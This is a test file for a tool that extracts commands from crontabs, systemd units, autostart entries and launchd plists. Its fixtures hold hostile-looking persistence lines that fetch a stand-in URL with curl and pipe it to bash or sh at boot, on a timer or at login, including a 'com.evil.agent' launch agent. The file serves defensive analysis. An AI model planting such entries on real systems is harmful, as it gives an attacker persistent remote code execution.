// crontab, systemd units, XDG autostart entries, launchd property lists.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ex, HOME, lines } from './helpers.ts';

test('crontab: time fields, @reboot, env lines, comments; pseudo path for crontab -', () => {
  const text = 'SHELL=/bin/bash\nMAILTO=""\n# m h dom mon dow command\n*/10 * * * * curl -s https://e.example/b | bash\n@reboot   nohup /tmp/.x >/dev/null 2>&1 &\n0 3 * * mon-fri  /usr/bin/backup --all\n';
  const r = ex('crontab', text, '<crontab>');
  assert.deepEqual(r.commands.map((c) => [c.line, c.where]), [
    ['curl -s https://e.example/b | bash', 'line 4'],
    ['nohup /tmp/.x >/dev/null 2>&1 &', 'line 5'],
    ['/usr/bin/backup --all', 'line 6'],
  ]);
  assert.equal(r.label, 'crontab entry');
});

test('system crontab: the user field is skipped', () => {
  assert.deepEqual(lines('crontab', '17 * * * * root cd / && run-parts --report /etc/cron.hourly\n', '/etc/crontab'), ['cd / && run-parts --report /etc/cron.hourly']);
  assert.deepEqual(lines('crontab', '* * * * * root curl x | sh\n', '/etc/cron.d/job'), ['curl x | sh']);
});

test('crontab: % ends the command; text after it is stdin (a script when fed to a shell)', () => {
  assert.deepEqual(lines('crontab', '0 0 * * * mail -s hi me%body line%two\n', '<crontab>'), ['mail -s hi me']);
  assert.deepEqual(lines('crontab', '0 0 * * * /bin/bash%curl x | sh%id\n', '<crontab>'), ['/bin/bash', 'curl x | sh\nid']);
});

test('crontab: a line that is no crontab line is still read (partial)', () => {
  const r = ex('crontab', 'curl x | sh\n', '<crontab>');
  assert.deepEqual([r.commands.map((c) => c.line), r.partial], [['curl x | sh'], true]);
});

test('systemd: Exec keys, prefixes, continuation lines, ; separators, $VAR kept', () => {
  const text = `[Unit]
Description=x
[Service]
Type=oneshot
Environment=URL=https://e.example
ExecStartPre=-+/usr/bin/mkdir -p /tmp/x
ExecStart=/bin/sh -c 'curl -s $URL \\
  | sh'
ExecStartPost=/bin/echo one ; /bin/echo "two words"
ExecStop=!!/usr/bin/pkill x
ExecReload=/bin/kill -HUP $MAINPID
`;
  const r = ex('systemd-unit', text, `${HOME}/.config/systemd/user/x.service`);
  assert.deepEqual(r.commands.map((c) => c.line), [
    '/usr/bin/mkdir -p /tmp/x',
    `/bin/sh -c 'curl -s $URL  | sh'`, // systemd: the backslash becomes a space
    '/bin/echo one', `/bin/echo 'two words'`,
    '/usr/bin/pkill x',
    '/bin/kill -HUP $MAINPID',
  ]);
  assert.equal(r.label, 'systemd user unit');
});

test('systemd timer: no command, the label names the unit it starts', () => {
  const r = ex('systemd-unit', '[Timer]\nOnCalendar=daily\nUnit=backup.service\n', `${HOME}/.config/systemd/user/b.timer`);
  assert.deepEqual(r.commands, []);
  assert.match(r.label, /starts backup\.service/);
  assert.equal(ex('systemd-unit', '[Service]\nExecStart=/x\n', '/etc/systemd/system/x.service').label, 'systemd system unit');
});

test('autostart .desktop: Exec of [Desktop Entry] only, field codes dropped, quoting undone', () => {
  const text = '[Desktop Entry]\nType=Application\nName=Updater\nExec="/home/dev/.cache/up date" --silent %u\nX-GNOME-Autostart-enabled=true\n';
  assert.deepEqual(lines('autostart', text, `${HOME}/.config/autostart/u.desktop`), [`'/home/dev/.cache/up date' --silent`]);
  assert.deepEqual(lines('autostart', '[Desktop Entry]\nExec=echo 100%%\n', `${HOME}/.config/autostart/u.desktop`), [`echo 100%`]);
});

test('launchd: ProgramArguments with entities; Program alone; binary plist is partial', () => {
  const text = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict>
  <key>Label</key><string>com.evil.agent</string>
  <key>ProgramArguments</key>
  <array>
    <string>/bin/bash</string>
    <string>-c</string>
    <string>curl -s https://e.example/a | bash &amp;&amp; echo &lt;ok&gt;</string>
  </array>
  <key>RunAtLoad</key><true/>
</dict></plist>`;
  const r = ex('launchd', text, `${HOME}/Library/LaunchAgents/com.evil.agent.plist`);
  assert.deepEqual(r.commands.map((c) => c.line), [`/bin/bash -c 'curl -s https://e.example/a | bash && echo <ok>'`]);
  assert.equal(r.label, 'launchd agent (runs at login)');
  assert.deepEqual(lines('launchd', '<plist><dict><key>Program</key><string>/usr/local/bin/x</string></dict></plist>', '/Library/LaunchDaemons/x.plist'), ['/usr/local/bin/x']);
  const bin = ex('launchd', 'bplist00\u0000\u0001', `${HOME}/Library/LaunchAgents/x.plist`);
  assert.deepEqual([bin.commands, bin.partial], [[], true]);
});
